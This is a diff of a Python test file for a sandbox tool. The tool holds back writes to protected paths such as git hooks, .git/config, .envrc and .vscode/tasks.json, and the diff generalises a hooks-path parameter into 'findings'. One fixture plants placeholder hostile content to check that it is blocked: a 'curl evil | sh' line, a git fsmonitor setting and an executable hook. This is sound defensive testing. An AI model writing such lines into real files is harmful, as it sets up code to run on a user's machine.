@@ -72,12 +72,12 @@ class Session:
 
     counter = 0
 
-    def __init__(self, workspace: Path, *, hooks_path: str = "") -> None:
+    def __init__(self, workspace: Path, *, findings: tuple[tuple[str, str], ...] = ()) -> None:
         Session.counter += 1
         self.id = f"0190000000{Session.counter:02d}abcdef"
         self.workspace = workspace
         record = store.LayerRecord(self.id, str(workspace), f"2026-01-01T00:00:{Session.counter:02d}.000Z",
-                                   store.RUNNING, PROTECTED, hooks_path)
+                                   store.RUNNING, PROTECTED, findings=findings)
         self.layer = store.create(record)
         self.base = baseline.record(workspace)
         baseline.save(self.layer.baseline_path, self.base)
@@ -185,16 +185,18 @@ def test_default_protected_patterns(path: str, pattern: str | None) -> None:
     assert why_protected(path, PROTECTED) == pattern
 
 
-def test_hooks_path_is_protected_last_and_literally() -> None:
-    assert why_protected("tools/hooks/pre-commit", PROTECTED, "tools/hooks") == "core.hooksPath=tools/hooks"
-    assert why_protected("tools/hooks", PROTECTED, "tools/hooks") == "core.hooksPath=tools/hooks"
-    assert why_protected("tools/hooksx", PROTECTED, "tools/hooks") is None
-    # Un-protecting patterns do not reach it: it comes after them.
-    assert why_protected(".git/refs/x", PROTECTED, ".git/refs") == "core.hooksPath=.git/refs"
+def test_a_sessions_findings_are_protected_last_and_literally() -> None:
+    hooks = [("tools/hooks", "core.hooksPath")]
+    assert why_protected("tools/hooks/pre-commit", PROTECTED, hooks) == "tools/hooks: core.hooksPath"
+    assert why_protected("tools/hooks", PROTECTED, hooks) == "tools/hooks: core.hooksPath"
+    assert why_protected("TOOLS/Hooks/x", PROTECTED, hooks) == "tools/hooks: core.hooksPath"  # any case
+    assert why_protected("tools/hooksx", PROTECTED, hooks) is None
+    # Un-protecting patterns do not reach a finding: it comes after them.
+    assert why_protected(".git/refs/x", PROTECTED, [(".git/refs", "moved")]) == ".git/refs: moved"
     # Taken literally, not as a glob; outside the workspace it protects nothing in it.
-    assert why_protected("hooks-x", [], "hooks-[x]") is None
-    assert why_protected("hooks-[x]/a", [], "hooks-[x]") == "core.hooksPath=hooks-[x]"
-    assert why_protected("a", [], "../elsewhere") is None
+    assert why_protected("hooks-x", [], [("hooks-[x]", "r")]) is None
+    assert why_protected("hooks-[x]/a", [], [("hooks-[x]", "r")]) == "hooks-[x]: r"
+    assert why_protected("a", [], [("../elsewhere", "r")]) is None
 
 
 def test_pattern_language() -> None:
@@ -393,7 +395,7 @@ def test_a_directory_deleted_in_the_sandbox_but_added_to_on_the_host_conflicts(w
 
 def test_protected_paths_are_held_back_unless_named(ws: Path) -> None:
     (ws / "tools").mkdir()
-    s = Session(ws, hooks_path="tools/hooks")
+    s = Session(ws, findings=(("tools/hooks", "core.hooksPath: git runs the hooks in it"),))
     s.file(".envrc", b"curl evil | sh\n").file(".git/config", b"[core]\n\tfsmonitor = evil\n")
     s.directory(".git/hooks").file(".git/hooks/x", b"evil\n", 0o755).directory("sub").directory("sub/.GIT")
     s.file("sub/.GIT/config", b"evil\n").directory(".vscode").file(".vscode/tasks.json", b"{}\n")
@@ -406,7 +408,7 @@ def test_protected_paths_are_held_back_unless_named(ws: Path) -> None:
                                             "src/ok.py", "sub"}
     held = {h.change.path: h.why for h in plan.held_back}
     assert held[".envrc"] == "protected (**/.env*)"
-    assert held["tools/hooks/pre-commit"] == "protected (core.hooksPath=tools/hooks)"
+    assert held["tools/hooks/pre-commit"] == "protected (tools/hooks: core.hooksPath: git runs the hooks in it)"
     assert set(held) == {".envrc", ".git/config", ".git/hooks", ".git/hooks/x", "sub/.GIT", "sub/.GIT/config",
                          ".vscode", ".vscode/tasks.json", "tools/hooks", "tools/hooks/pre-commit"}
     assert (ws / ".git/config").read_text() == "[core]\n"
